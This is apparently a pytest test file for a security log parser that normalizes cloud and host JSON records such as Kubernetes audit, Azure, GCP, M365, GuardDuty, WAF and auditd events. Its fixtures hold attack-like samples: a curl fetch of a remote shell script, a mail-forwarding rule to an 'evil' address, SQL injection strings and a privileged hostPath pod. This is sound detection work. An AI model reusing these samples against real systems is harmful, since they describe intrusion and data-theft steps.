"""Cloud and host JSON document kinds (cloudjson dispatcher; journald, Coraza, Laurel live in hostjson)."""
import pytest

from detectors.parsers import cloudjson


def one(doc, kind=None):
    k = cloudjson.kind(doc)
    assert kind is None or k == kind, k
    evs = cloudjson.from_doc(doc, k)
    assert len(evs) == 1
    return evs[0]


def test_journald_with_byte_array_message():
    ev = one({"__REALTIME_TIMESTAMP": "1795341600000000", "_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sshd",
              "_PID": "812", "_COMM": "sshd", "_EXE": "/usr/sbin/sshd", "PRIORITY": "6",
              "MESSAGE": list(b"Failed password for root from 192.0.2.7 port 2222 ssh2")}, "journald")
    assert ev["message"].startswith("Failed password") and ev["process.name"] == "sshd" and ev["process.pid"] == 812
    assert ev["host.name"] == "web1" and ev["_ts"] == 1795341600.0
    assert ev["_logsource"] == {"product": "linux", "service": "sshd"}


def test_k8s_audit_pod_with_host_path():
    ev = one({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "verb": "create", "requestURI": "/api/v1/namespaces/d/pods",
              "user": {"username": "dev"}, "sourceIPs": ["198.51.100.4"], "stageTimestamp": "2026-11-22T10:00:00Z",
              "objectRef": {"resource": "pods", "namespace": "d"}, "responseStatus": {"code": 201},
              "requestObject": {"spec": {"volumes": [{"hostPath": {"path": "/"}}],
                                         "containers": [{"securityContext": {"privileged": True}}]}}}, "k8s_audit")
    assert ev["user.name"] == "dev" and ev["source.ip"] == "198.51.100.4" and ev["event.action"] == "create"
    assert ev["objectRef.resource"] == "pods" and ev["hostPath"] == ["/"] and ev["privileged"] is True
    assert ev["_logsource"] == {"product": "kubernetes", "service": "audit", "category": "application"}
    assert ev["event.outcome"] == "success" and ev["url.original"].endswith("/pods")


@pytest.mark.parametrize("wrap", [False, True])
def test_azure_activity_camel_and_wrapped(wrap):
    rec = {"operationName": {"value": "Microsoft.Storage/storageAccounts/listKeys/action"}, "caller": "a@example.test",
           "resourceId": "/subscriptions/s/x", "eventTimestamp": "2026-11-22T10:00:00Z", "status": {"value": "Failed"},
           "httpRequest": {"clientIpAddress": "203.0.113.8", "method": "POST"}, "category": {"value": "Administrative"}}
    ev = one({"data": rec, "eventType": "AZURE_CLOUD"} if wrap else rec, "azure_activity")
    assert ev["operationName"] == "Microsoft.Storage/storageAccounts/listKeys/action" and ev["CategoryValue"] == "Administrative"
    assert ev["user.name"] == "a@example.test" and ev["source.ip"] == "203.0.113.8" and ev["event.outcome"] == "failure"
    assert ev["_logsource"] == {"product": "azure", "service": "activitylogs"}


def test_azure_activity_snake_case():
    ev = one({"operation_name": {"value": "Microsoft.Compute/disks/delete"}, "resource_id": "/r",
              "event_timestamp": "2026-11-22T10:00:00Z", "http_request": {"client_ip_address": "192.0.2.3"}})
    assert ev["operationName"] == "Microsoft.Compute/disks/delete" and ev["source.ip"] == "192.0.2.3"


def test_azure_signin():
    ev = one({"time": "2026-11-22T10:00:00Z", "category": "SignInLogs", "operationName": "Sign-in activity",
              "resourceId": "/tenants/t", "resultType": "50126", "properties": {"userPrincipalName": "u@example.test",
                                                                              "ipAddress": "198.51.100.9"}}, "azure_signin")
    assert ev["ResultType"] == "50126" and ev["event.outcome"] == "failure" and ev["user.name"] == "u@example.test"
    assert ev["_logsource"] == {"product": "azure", "service": "signinlogs"}


def test_gcp_audit():
    ev = one({"insertId": "1", "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
              "timestamp": "2026-11-22T10:00:00.123456789Z", "resource": {"type": "gce_instance", "labels": {"project_id": "p"}},
              "protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "methodName": "v1.compute.instances.delete",
                               "serviceName": "compute.googleapis.com", "authenticationInfo": {"principalEmail": "x@example.test"},
                               "requestMetadata": {"callerIp": "203.0.113.2"},
                               "authorizationInfo": [{"permission": "compute.instances.delete", "granted": True}]}}, "gcp_audit")
    assert ev["gcp.audit.method_name"] == "v1.compute.instances.delete" and ev["protoPayload.methodName"]
    assert ev["data.protoPayload.authorizationInfo.permission"] == ["compute.instances.delete"]
    assert ev["user.name"] == "x@example.test" and ev["source.ip"] == "203.0.113.2"
    assert ev["_logsource"] == {"product": "gcp", "service": "gcp.audit"} and ev["cloud.account.id"] == "p"


def test_m365_parameters_and_utc():
    ev = one({"CreationTime": "2026-11-22T10:00:00", "Operation": "New-InboxRule", "Workload": "Exchange", "RecordType": 1,
              "UserId": "u@example.test", "ResultStatus": "True", "ClientIP": "192.0.2.44",
              "Parameters": [{"Name": "ForwardTo", "Value": "evil@example.test"}]}, "m365")
    assert ev["_ts"] == 1795341600.0 and ev["event.action"] == "New-InboxRule" and ev["user.name"] == "u@example.test"
    assert ev["Parameters"] == ["ForwardTo=evil@example.test"] and ev["Parameters.ForwardTo"] == "evil@example.test"
    assert ev["_logsource"] == {"product": "m365", "service": "audit"}


def test_guardduty_outbound_connection():
    ev = one({"schemaVersion": "2.0", "arn": "arn:aws:guardduty:us-east-1:1:detector/d/finding/f", "severity": 8,
              "type": "Backdoor:EC2/C&CActivity.B", "updatedAt": "2026-11-22T10:00:00Z", "title": "C2",
              "service": {"action": {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
                  "connectionDirection": "OUTBOUND", "protocol": "TCP", "remoteIpDetails": {"ipAddressV4": "203.0.113.66"},
                  "remotePortDetails": {"port": 443}, "localPortDetails": {"port": 50000}}}}}, "guardduty")
    assert ev["rule.name"] == "Backdoor:EC2/C&CActivity.B" and ev["event.category"] == "intrusion_detection"
    assert ev["destination.ip"] == "203.0.113.66" and ev["destination.port"] == 443 and ev["source.port"] == 50000
    assert ev["network.transport"] == "tcp" and ev["_logsource"] == {"product": "aws", "service": "guardduty"}
    assert cloudjson.from_doc({"findings": []}) == []


def test_aws_waf_webserver_fields():
    ev = one({"timestamp": 1795341600000, "webaclId": "arn:aws:wafv2:x", "action": "BLOCK", "terminatingRuleId": "SQLi",
              "httpRequest": {"clientIp": "198.51.100.20", "uri": "/login", "args": "id=1%27", "httpMethod": "GET",
                              "headers": [{"name": "User-Agent", "value": "sqlmap/1.7"}]}}, "aws_waf")
    assert ev["c-ip"] == "198.51.100.20" and ev["cs-uri-stem"] == "/login" and ev["cs-uri-query"] == "id=1%27"
    assert ev["cs-user-agent"] == "sqlmap/1.7" and ev["event.action"] == "block" and ev["_ts"] == 1795341600.0
    assert ev["_logsource"] == {"product": "aws", "service": "waf", "category": "webserver"}


def test_coraza_waf():
    msg = ('[client "192.0.2.50"] Coraza: Access denied (phase 2). SQL Injection Attack [file "x.conf"] [line "1"] '
           '[id "942100"] [msg "SQL Injection Attack Detected via libinjection"] [severity "critical"] '
           '[tag "attack-sqli"] [tag "OWASP_CRS"] [uri "/q?id=1 or 1=1"]')
    ev = one({"level": "error", "ts": 1795341600.5, "logger": "http.handlers.waf", "msg": msg}, "coraza")
    assert ev["rule.id"] == "942100" and ev["source.ip"] == "192.0.2.50" and ev["event.action"] == "deny"
    assert ev["coraza.tag"] == ["attack-sqli", "OWASP_CRS"] and ev["url.original"] == "/q?id=1 or 1=1"
    assert ev["_logsource"] == {"product": "coraza", "service": "waf"}


def test_laurel_execve():
    ev = one({"ID": "1795341600.250:77", "SYSCALL": {"syscall": 59, "success": "yes", "pid": 10, "ppid": 9, "exe": "/usr/bin/curl",
                                                     "comm": "curl", "UID": "root", "SYSCALL": "execve", "key": "net"},
              "EXECVE": {"argc": 2, "ARGV": ["curl", "http://203.0.113.1/x.sh"]}, "PATH": [{"name": "/usr/bin/curl"}]}, "laurel")
    assert ev["process.command_line"] == "curl http://203.0.113.1/x.sh" and ev["a1"] == "http://203.0.113.1/x.sh"
    assert ev["process.executable"] == "/usr/bin/curl" and ev["user.name"] == "root" and ev["_ts"] == 1795341600.25
    assert "EXECVE" in ev["type"] and ev["_logsource"] == {"product": "linux", "service": "auditd"}


def test_okta():
    ev = one({"eventType": "user.session.start", "published": "2026-11-22T10:00:00Z", "actor": {"alternateId": "o@example.test"},
              "client": {"ipAddress": "192.0.2.77"}, "outcome": {"result": "FAILURE"}}, "okta")
    assert ev["event.outcome"] == "failure" and ev["user.name"] == "o@example.test" and ev["actor.alternateId"]
    assert ev["_logsource"] == {"product": "okta", "service": "okta"}


@pytest.mark.parametrize("bad", [{}, {"a": 1}, {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "user": "x"},
                                 {"ID": "1.2:3", "SYSCALL": "x"}, {"logger": "http.handlers.waf", "msg": None}])
def test_unknown_or_broken_documents(bad):
    assert isinstance(cloudjson.from_doc(bad), list)
    assert cloudjson.kind({"a": 1}) is None and cloudjson.from_doc({"a": 1}) == []
